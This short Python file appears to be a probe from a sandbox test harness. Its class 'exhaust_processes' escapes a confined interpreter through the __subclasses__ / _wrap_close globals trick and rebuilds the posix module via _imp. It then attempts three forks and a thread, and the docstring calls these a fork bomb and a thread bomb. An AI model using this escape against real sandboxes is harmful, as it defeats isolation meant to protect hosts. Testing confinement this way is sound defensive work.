"""A fork bomb and a thread bomb after escaping to posix and threading."""


class Bomb:
    name = "exhaust_processes"

    def real_import(self, name):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                return cls.__init__.__globals__["__builtins__"]["__import__"](name, fromlist=["_"])

    def posix(self):
        machinery = self.real_import("sys").modules["_frozen_importlib"]  # importlib is gone once confined
        imp = self.real_import("_imp")
        module = imp.create_builtin(machinery.ModuleSpec("posix", machinery.BuiltinImporter, origin="built-in"))
        imp.exec_builtin(module)
        return module

    def plan(self, ctx):
        p = self.posix()
        outcomes = []
        for _ in range(3):
            try:
                child = p.fork()
                if child == 0:
                    p._exit(0)
                outcomes.append(str(child))
            except Exception as error:
                outcomes.append(error.__class__.__name__)
        try:
            self.real_import("_thread").start_new_thread(len, ((),))
            outcomes.append("thread")
        except Exception as error:
            outcomes.append(error.__class__.__name__)
        return {"guidance": ",".join(outcomes)}
